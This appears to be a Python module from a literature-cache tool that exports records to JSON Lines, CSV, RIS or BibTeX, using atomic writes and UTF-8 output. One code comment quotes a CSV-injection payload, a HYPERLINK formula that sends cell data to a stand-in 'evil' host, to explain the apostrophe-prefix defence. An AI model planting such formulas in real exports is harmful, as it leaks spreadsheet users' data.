"""`ketlit export`: stream cached records to JSON Lines or CSV, or articles to RIS / BibTeX.

Design decisions:
- **Streaming.** Records come from the store's ``iter_*`` generators and are written one at a
  time, so an export never holds the cache in memory, however large it is. (Citations are the
  exception: BibTeX keys are disambiguated across the whole set, so :func:`export_citations`
  needs every selected article at once.)
- **CSV is derived from the JSON record.** The CSV header is the kind's field list (the keys
  the store gives every record of that kind), written before the first row, so an export of
  no records is still a header a script or spreadsheet can read; a list becomes ``; ``-joined
  text (a MeSH descriptor or an intervention's name where it has one), a dict its compact
  JSON. JSON Lines keep the record as it is (no records: an empty file).
- Files are written atomically (temporary file + rename, :mod:`ketlit.files`): an export that
  fails half-way, on a full disk say, leaves the previous file whole and no truncated one.
- Text is written with ``newline=""`` so the CSV module's ``\\r\\n`` row ends (and any newline
  inside a JSON string, which is escaped anyway) reach the file unchanged.
- **UTF-8 on standard output too.** Exports are data, written as UTF-8 whatever the locale, so
  ``> file`` and ``--out file`` give the same bytes: a Latin-1 or ASCII locale would otherwise
  stop an export at its first "–" or "é" with an encoding error (and on Windows, text-mode
  stdout would turn the CSV's ``\\r\\n`` into ``\\r\\r\\n``).
- Nothing here knows about the terminal: the CLI picks the format, the destination and prints
  the count this module returns.
"""

from __future__ import annotations

import csv
import json
import sys
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import contextmanager
from enum import StrEnum
from pathlib import Path
from typing import Any, BinaryIO, Protocol

from ketlit.config import Settings
from ketlit.errors import InputError
from ketlit.files import atomic_text
from ketlit.store import ARTICLE_EXPORT_FIELDS, LINK_EXPORT_FIELDS, TAG_SUMMARY_FIELDS, TRIAL_EXPORT_FIELDS
from ketlit.store.core import Store


class ExportFormat(StrEnum):
    """The record formats of ``ketlit export articles|trials|links|tags``."""

    jsonl = "jsonl"
    csv = "csv"


class CitationFormat(StrEnum):
    """The formats of ``ketlit export citations``."""

    ris = "ris"
    bibtex = "bibtex"


# What each ``ketlit export`` subcommand streams, the noun its count is reported in, and the keys
# of its records (the CSV header).
RECORDS: dict[str, tuple[Callable[[Store], Iterator[dict[str, Any]]], str, tuple[str, ...]]] = {
    "articles": (Store.iter_articles, "article", ARTICLE_EXPORT_FIELDS),
    "trials": (Store.iter_trials, "trial", TRIAL_EXPORT_FIELDS),
    "links": (Store.iter_links, "link", LINK_EXPORT_FIELDS),
    "tags": (Store.iter_tag_summaries, "record", TAG_SUMMARY_FIELDS),
}


def export_records(store: Store, what: str, fmt: ExportFormat, dest: Path | None) -> int:
    """Write every cached record of kind ``what`` (a key of :data:`RECORDS`); return the count."""
    records, _noun, fields = RECORDS[what]
    return write_records(records(store), fmt, dest, fields)


def write_records(records: Iterable[dict[str, Any]], fmt: ExportFormat, dest: Path | None,
                  fields: Sequence[str] | None = None) -> int:
    """Write records one by one as JSON Lines or CSV to ``dest`` (stdout without one); return the count.

    The CSV header is ``fields`` (written even when there is no record), else the first record's
    keys. ``dest`` is written atomically (:func:`ketlit.files.atomic_text`): a failure half-way, such as
    a full disk or a damaged cache, leaves the previous file as it was and no partial one."""
    if dest is None:
        with _stdout_errors():
            return _write_stream(records, fmt, _stdout(), fields)
    with atomic_text(dest) as stream:
        return _write_stream(records, fmt, stream, fields)


class _TextOut(Protocol):
    def write(self, text: str, /) -> int: ...


class _Utf8Out:
    """Text written straight to a binary stream as UTF-8 (a plain object, not a TextIOWrapper:
    one would close standard output's buffer when it is collected)."""

    def __init__(self, buffer: BinaryIO) -> None:
        self._buffer = buffer

    def write(self, text: str, /) -> int:
        self._buffer.write(text.encode("utf-8"))
        return len(text)


def _stdout() -> _TextOut:
    """Standard output as UTF-8 with newlines as given, whatever the locale."""
    if sys.stdout is None:  # started with standard output closed (``>&-``): Python leaves None here
        raise InputError("cannot write to standard output: it is closed")
    buffer = getattr(sys.stdout, "buffer", None)
    if buffer is None:  # replaced by a text-only stream (an embedding program): written as it is
        return sys.stdout
    sys.stdout.flush()  # what was written as text before comes first
    return _Utf8Out(buffer)


def _write_stream(records: Iterable[dict[str, Any]], fmt: ExportFormat, stream: _TextOut,
                  fields: Sequence[str] | None) -> int:
    count = 0
    writer: csv.DictWriter[str] | None = None
    if fmt is ExportFormat.csv and fields is not None:
        writer = csv.DictWriter(stream, fieldnames=list(fields))
        writer.writeheader()
    for record in records:
        if fmt is ExportFormat.jsonl:
            stream.write(json.dumps(record, ensure_ascii=False) + "\n")
        else:
            flat = {k: flat_value(v) for k, v in record.items()}
            if writer is None:
                writer = csv.DictWriter(stream, fieldnames=list(flat))
                writer.writeheader()
            writer.writerow(flat)
        count += 1
    return count


@contextmanager
def _stdout_errors() -> Iterator[None]:
    """A failed write to standard output (a full disk behind ``>``) as one line; a closed pipe
    (``| head``) is left to the CLI, which ends quietly as Unix tools do."""
    try:
        yield
        sys.stdout.flush()
    except BrokenPipeError:
        raise
    except OSError as exc:
        raise InputError(f"cannot write to standard output: {exc.strerror or exc}") from None


# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection: a title
# such as '=HYPERLINK("http://evil/?"&A1)' would run when an editor opens the export). OWASP's
# advice: prefix such text cells with an apostrophe, which spreadsheets show as text. Numbers
# stay numbers (a negative count is not text).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def flat_value(value: Any) -> Any:
    """A record value as one CSV cell: lists become '; '-joined text, dicts their compact JSON,
    and text a spreadsheet would run as a formula is prefixed with an apostrophe."""
    if isinstance(value, list):
        value = "; ".join(
            v.get("descriptor") or v.get("name") or json.dumps(v) if isinstance(v, dict) else str(v) for v in value
        )
    elif isinstance(value, dict):
        value = json.dumps(value, ensure_ascii=False)
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def export_citations(
    store: Store, settings: Settings, fmt: CitationFormat, query_file: Path | None
) -> tuple[str, int]:
    """(RIS or BibTeX text, number of articles) for every cached article, or one query file's."""
    from ketlit.report.citations import to_bibtex, to_ris  # only this export formats citations

    records = list(store.iter_articles())
    if query_file is not None:
        # Imported here: only an export of one query's articles needs the query and report modules.
        from ketlit.queries import load_query
        from ketlit.report.gather import query_record_ids
        from ketlit.tagging.vocab import tag_vocabularies

        query = load_query(query_file, vocabularies=tag_vocabularies(settings.tagging_rules))
        wanted = set(query_record_ids(store, query)["pubmed"])
        records = [r for r in records if r["pmid"] in wanted]
    text = to_ris(records) if fmt is CitationFormat.ris else to_bibtex(records)
    return text, len(records)


def write_text(text: str, dest: Path | None) -> None:
    """Write a rendered document to ``dest`` (atomically), or to stdout without one (text kept byte for byte)."""
    if dest is None:
        with _stdout_errors():
            _stdout().write(text)
        return
    with atomic_text(dest) as stream:
        stream.write(text)
